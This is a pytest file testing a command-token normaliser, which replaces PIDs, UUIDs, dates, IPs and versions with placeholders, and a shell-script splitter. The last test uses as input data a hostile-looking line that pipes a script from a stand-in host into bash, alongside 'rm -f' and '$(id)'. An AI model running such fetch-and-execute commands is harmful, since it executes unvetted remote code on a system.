"""Volatile values become typed placeholders; the shape of the command stays."""

from __future__ import annotations

import pytest

from streams.normalize import _normalize_part, normalize_token, script_commands, shell_script


@pytest.mark.parametrize(
    ("token", "expected"),
    [
        ("--pid=4242", "--pid=<n>"),
        ("/tmp/tmp.Ab3xYz9Q", "/tmp/tmp.<rnd>"),
        ("3f2b8c1e-9a4d-4e7b-8c2d-1a2b3c4d5e6f.json", "<uuid>.json"),
        ("backup-2026-11-25.tar.gz", "backup-<date>.tar.gz"),
        ("--peer=10.0.3.17:5432", "--peer=<ip>"),
        ("sha=9f86d081884c7d65", "sha=<hex>"),
        ("app-1.24.3", "app-<ver>"),
        ("build-4711", "build-<n>"),
        ("/usr/bin/Python3", "/usr/bin/python<n>"),
        ("--verbose", "--verbose"),
    ],
)
def test_volatile_values_become_typed_placeholders(token: str, expected: str) -> None:
    assert normalize_token(token) == expected


def test_routine_drift_normalises_to_the_same_token() -> None:
    runs = ["/var/log/app/app-2026-11-24.log", "/var/log/app/app-2026-11-25.log"]
    assert len({normalize_token(t) for t in runs}) == 1
    assert normalize_token("/proc/1234/status") == normalize_token("/proc/98765/status")


@pytest.mark.parametrize(
    "token",
    [
        "/srv/render/render-7.conf",
        "/data/2026-11-25/10.1.2.3/part-00042.parquet",
        "--out=/tmp/Ab3xYz9Q/3f2b8c1e-9a4d-4e7b-8c2d-1a2b3c4d5e6f/v1.2.3",
        "https://10.0.0.1:8443/api/v2/items/deadbeef42",
        "/a//b/",
    ],
)
def test_paths_normalise_component_by_component_as_a_whole(token: str) -> None:
    # normalize_token splits on "/" so directories are cached once; no rule may match
    # across a "/", so the whole token normalised at once gives the same result.
    assert normalize_token(token) == _normalize_part.__wrapped__(token)


def test_shell_scripts_split_into_simple_commands() -> None:
    argv = ["sh", "-c", "curl -s http://x/i.sh | bash; FOO=1 rm -f /tmp/a && echo $(id)"]
    script = shell_script(argv)
    assert script is not None
    assert [words[0] for words in script_commands(script)] == ["curl", "bash", "rm", "echo", "id"]
